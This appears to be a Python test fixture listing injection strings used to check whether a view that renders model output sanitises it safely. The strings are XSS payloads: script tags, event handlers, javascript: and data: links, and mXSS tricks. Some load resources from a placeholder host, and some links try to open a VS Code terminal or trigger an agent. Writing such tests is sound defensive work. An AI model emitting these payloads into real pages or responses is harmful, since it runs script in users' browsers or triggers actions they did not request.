"""What a model may write to get something executed, loaded or sent in a view; success leaves a trace."""

from __future__ import annotations

# Set by whatever runs; looked for in every frame of the page.
FLAG = "ds4_injected"
_DO = f"top.{FLAG}=window.{FLAG}=1;console.log('{FLAG}');alert('{FLAG}')"
# A host that is nobody's: any request to it is seen by who listens to the page.
_AWAY = "http://away.invalid"

INJECTIONS = (
    f"<script>{_DO}</script>",
    f"<SCRIPT SRC={_AWAY}/1.js></SCRIPT>",
    f'<img src=x onerror="{_DO}">',
    f'<img src="{_AWAY}/2.png">',
    f'<svg onload="{_DO}"></svg>',
    f"<svg><script>{_DO}</script></svg>",
    f'<iframe src="javascript:{_DO}"></iframe>',
    f'<iframe srcdoc="<script>{_DO}</script>"></iframe>',
    f'<object data="data:text/html,<script>{_DO}</script>"></object>',
    f'<embed src="{_AWAY}/3">',
    f'<details open ontoggle="{_DO}"><summary>x</summary></details>',
    f'<input autofocus onfocus="{_DO}">',
    f'<body onload="{_DO}">',
    f'<video><source onerror="{_DO}"></video>',
    f'<a href="javascript:{_DO}">press 1</a>',
    f"[press 2](javascript:{_DO.replace('(', '%28').replace(')', '%29')})",
    "[press 3](data:text/html;base64,PHNjcmlwdD5hbGVydCgnZHM0X2luamVjdGVkJyk8L3NjcmlwdD4=)",
    "[press 4](command:workbench.action.terminal.new)",
    "[press 5](vscode://ds4agent.ds4agent/run)",
    f"![picture]({_AWAY}/4.png)",
    f'![picture]({_AWAY}/5.png"onerror="{_DO})',
    f"[press 6][there]\n\n[there]: javascript:{_DO}",
    f"<javascript:{_DO}>",
    f'<style>@import "{_AWAY}/6.css"; * {{ display: none !important }}</style>',
    f'<link rel="stylesheet" href="{_AWAY}/7.css">',
    f'<meta http-equiv="refresh" content="0;url={_AWAY}/8">',
    f'<base href="{_AWAY}/">',
    f'<form action="{_AWAY}/9"><button autofocus>press 7</button></form>',
    f'```"><img src=x onerror={_DO}>\ncode\n```',
    f"```html\n</code></pre><script>{_DO}</script>\n```",
    f"`</code><img src=x onerror={_DO}>`",
    f"| <img src=x onerror={_DO}> | b |\n|---|---|\n| <script>{_DO}</script> | d |",
    f"<math><mtext></mtext><mglyph><style><!--</style><img src=x onerror={_DO}>--></mglyph></math>",
    f'<noscript><p title="</noscript><img src=x onerror={_DO}>"></noscript>',
    f"<!-- --!><img src=x onerror={_DO}> -->",
    f"&lt;img src=x onerror={_DO}&gt; \\<script>{_DO}\\</script>",
    f"${{{_DO}}} {{{{constructor.constructor('{FLAG}')()}}}}",
    "\x1b[31mred\x1b[0m \x1b]8;;http://away.invalid/10\x07link\x1b]8;;\x07",
    "\u202etxt.exe\u202c \u2066isolate\u2069 \u200fright\u200e",
    "x" * 20_000,
)
